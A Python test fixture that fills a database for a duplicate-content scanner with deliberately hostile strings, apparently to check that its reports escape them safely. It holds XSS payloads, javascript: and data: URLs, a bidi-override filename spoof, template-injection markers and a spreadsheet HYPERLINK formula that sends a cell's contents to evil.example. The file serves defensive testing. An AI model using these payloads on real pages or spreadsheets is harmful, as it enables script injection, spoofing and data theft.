"""A store with one finished scan whose every text was written by an enemy of the report."""

from __future__ import annotations

from pathlib import Path

from sqlalchemy import insert

from crawl.article import Article, Block, BlockKind
from crawl.ownership import OwnershipId
from db import scans, schema
from db.captures import ensure_site, save_capture
from db.engine import Store
from db.evidence import MatchEvidence, packed
from db.extractions import save_article
from db.ownership import save_ids

SCRIPT = "<script>alert('kettle')</script> & \"friends\" 'of' tea"
LONG = "endless " * 1300
BIDI = "invoice\u202ecod.exe\u2066\u200f"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"prize")'

LEFT = (
    "A copper kettle boils quickly.",
    "Pour the water slowly over the leaves.",
    "Nobody wrote this sentence twice.",
    "Serve it with a slice of lemon.",
)
RIGHT = (
    "Serve it with a slice of lime.",
    "A copper pot boils rapidly.",
    "<img src=x onerror=alert(1)> {{ 7 * 7 }} {% raise %} </p></div></body>",
    "Pour the water slowly over the leaves.",
)
SPOILT = "A\x00copper\x1b[31m kettle\u202e boils.\u0007"

_PAGES = (
    ("one.example", "https://one.example/kettle?a=1&b=<i>", SCRIPT, LEFT),
    ("two.example", "javascript:alert(document.domain)", BIDI, RIGHT),
    ("two.example", "https://two.example/long", LONG, (*LEFT[:2], SPOILT)),
    ("<b>import</b>", " \tjava\nscript:alert(1)", FORMULA, ("Alone on a quiet hill.",)),
    ("two.example", "data:text/html,<script>alert(2)</script>", "", ("Alone again.",)),
)


_IDS = {
    "two.example": (OwnershipId("adsense", "pub-1"), OwnershipId("author", SCRIPT)),
    "<b>import</b>": (OwnershipId("adsense", "pub-1"), OwnershipId("author", SCRIPT)),
}


def build(path: Path) -> Store:
    """Store the farm and its scan, number 1; one stored site is not part of the scan."""
    store = Store.open(path)
    with store.write() as session:
        for site, url, title, sentences in _PAGES:
            site_id = ensure_site(session, site)
            capture = save_capture(
                session,
                site_id=site_id,
                url_id=None,
                url=url,
                final_url=url,
                fetched_at="2025-06-01T10:00:00Z",
                status=200,
                headers={},
                content_type="text/html",
                body=None,
            )
            blocks = (
                Block(BlockKind.HEADING, "Tea <marquee>", level=2, section=1),
                *(Block(BlockKind.PARAGRAPH, text, section=1) for text in sentences),
            )
            article = Article(
                id="", blocks=blocks, title=title, url=url, author=BIDI, published="2024<br>-01"
            )
            save_article(session, capture, site_id, article, "test 1")
            save_ids(session, capture, _IDS.get(site, ()))
        ensure_site(session, "secret-client.example")
    _scan(store)
    return store


def _scan(store: Store) -> None:
    hosts = ["one.example", "two.example", "<b>import</b>"]
    scan_id = scans.begin_scan(store, hosts, {"scan": {"seed": 1}}, {"unspin": "0.1.0"})
    texts = ["\n\n".join(("Tea <marquee>", *sentences)) for *_, sentences in _PAGES]
    scans.save_matches(
        store,
        scan_id,
        [
            _match(
                texts, 0, 1, "spun", ((LEFT[0], RIGHT[1]), (LEFT[1], RIGHT[3]), (LEFT[3], RIGHT[0]))
            ),
            _match(texts, 0, 2, "excerpt", ((LEFT[0], LEFT[0]), (LEFT[1], LEFT[1]))),
        ],
    )
    slot = {"kind": "name", "variable": 0, "fillers": [[SCRIPT, 2], ["", 1]]}
    scans.save_clusters(
        store,
        scan_id,
        [
            {
                "number": 1,
                "key": "k",
                "kind": "spun",
                "cohesion": 0.8,
                "confidence": 0.75,
                "template": packed(
                    {
                        "parts": ["<b>A</b> copper ", slot],
                        "spintax": f"<b>A</b> copper {{{SCRIPT}|}}",
                        "values": {"1": [SCRIPT], "2": [""], "3": [BIDI]},
                    }
                ),
                "origin": None,
                "members": [(2, 1.0), (1, 0.8), (3, 0.6)],
            }
        ],
    )
    scans.save_passages(
        store,
        scan_id,
        [
            {
                "number": 1,
                "kind": "shared",
                "text": SPOILT + SCRIPT,
                "words": 9,
                "articles": 2,
                "sites": 2,
                "places": [(1, 0, 10), (3, 0, 10)],
            }
        ],
    )
    scans.save_redundancy(
        store,
        scan_id,
        [
            {
                "article_id": number,
                "share": share,
                "same_site": 0.0,
                "other_sites": share,
                "covered_by": [(1, share)] if share else [],
            }
            for number, share in ((1, 0.0), (2, 0.6), (3, 1.0), (4, 0.0), (5, 0.0))
        ],
    )
    restated = texts[0].index(LEFT[3])
    pair = {
        "restated": {"start": restated, "end": restated + len(LEFT[3]), "text": LEFT[3]},
        "kept": {"start": 0, "end": 3, "text": SCRIPT},
        "similarity": 0.7,
        "kind": "reworded",
        "check": "lead-sections",
        "weight": 2.0,
    }
    check = {
        "name": "lead-sections",
        "title": "Does the opening restate the sections?",
        "finding": SCRIPT,
        "share": 0.25,
        "restated": 1,
        "of": 4,
    }
    scans.save_repetition(
        store,
        scan_id,
        [
            {
                "article_id": number,
                "score": 25.0 if number == 1 else 0.0,
                "words": 20,
                "restated_words": 5 if number == 1 else 0,
                "detail": {"checks": [check], "pairs": [pair]} if number == 1 else {},
            }
            for number in range(1, 6)
        ],
    )
    scans.save_findings(
        store,
        scan_id,
        [
            {
                "kind": "no-canonical",
                "article_id": 1,
                "other_id": other,
                "text": f"=1+1 {SCRIPT}",
                "fix": "Merge them.",
            }
            for other in (2, None)
        ],
    )
    scans.finish_scan(store, scan_id, {"articles": 5}, ["2 pages <i>had</i> no article"])


def _match(
    texts: list[str], a: int, b: int, relation: str, pairs: tuple[tuple[str, str], ...]
) -> scans.MatchValues:
    alignment = [
        (start_a, start_a + len(one), start_b, start_b + len(two), 0.8)
        for one, two in pairs
        for start_a, start_b in [(texts[a].index(one), texts[b].index(two))]
    ]
    return {
        "a_id": a + 1,
        "b_id": b + 1,
        "relation": relation,
        "provisional": "near_duplicate",
        "contained_id": b + 1 if relation == "excerpt" else None,
        "confidence": 0.95,
        "evidence": MatchEvidence.of(
            {"containment_a": 0.25, "containment_b": 0.75, "lcs": 1 / 3}, alignment
        ),
    }


def grow(store: Store, members: int, pairs: int) -> None:
    """Add a second scan: a cluster of so many doorway pages, and so many clusters of two."""
    with store.write() as session:
        site_id = ensure_site(session, "doorways.example")
        ids = list(range(1000, 1000 + members + 2 * pairs))
        session.execute(insert(schema.Capture), [_capture(number, site_id) for number in ids])
        session.execute(insert(schema.Article), [_article(number, site_id) for number in ids])
        session.execute(
            insert(schema.Block),
            [
                {
                    "article_id": number,
                    "position": 0,
                    "kind": "paragraph",
                    "level": 0,
                    "section": 0,
                    "text": f"Plumbing in town {number}. Call us now.",
                }
                for number in ids
            ],
        )
    starts = range(members, len(ids), 2)
    groups = [ids[:members], *(ids[n : n + 2] for n in reversed(starts))]
    scan_id = scans.begin_scan(store, ["doorways.example"], {}, {})
    scans.save_matches(
        store,
        scan_id,
        (
            {
                "a_id": group[0],
                "b_id": other,
                "relation": "doorway",
                "provisional": "doorway",
                "contained_id": None,
                "confidence": 0.95,
                "evidence": MatchEvidence.of({"lcs": 0.9}, [(0, 10, 0, 10, 0.9)]),
            }
            for group in groups
            for other in group[1:]
        ),
    )
    scans.save_clusters(
        store,
        scan_id,
        (
            {
                "number": number,
                "key": f"k{number}",
                "kind": "doorway",
                "cohesion": 0.9,
                "confidence": 0.95,
                "template": None,
                "origin": None,
                "members": [(member, 0.9) for member in group],
            }
            for number, group in enumerate(groups, 1)
        ),
    )
    scans.save_redundancy(
        store,
        scan_id,
        (
            {
                "article_id": number,
                "share": 0.9,
                "same_site": 0.9,
                "other_sites": 0.0,
                "covered_by": [(ids[0], 0.9)],
            }
            for number in ids
        ),
    )
    scans.save_repetition(
        store,
        scan_id,
        (
            {"article_id": number, "score": 0.0, "words": 7, "restated_words": 0, "detail": {}}
            for number in ids
        ),
    )
    scans.finish_scan(store, scan_id, {"articles": len(ids)})


def _capture(number: int, site_id: int) -> dict[str, object]:
    url = f"https://doorways.example/{number}"
    return {
        "id": number,
        "site_id": site_id,
        "url": url,
        "final_url": url,
        "fetched_at": "2025-06-01T10:00:00Z",
    }


def _article(number: int, site_id: int) -> dict[str, object]:
    return {
        "id": number,
        "capture_id": number,
        "site_id": site_id,
        "extractor": "test 1",
        "url": f"https://doorways.example/{number}",
        "title": f"Plumbing in town {number}",
        "language": "en",
        "author": "",
        "published": "",
        "modified": "",
        "words": 7,
        "outline": [],
        "flags": [],
    }
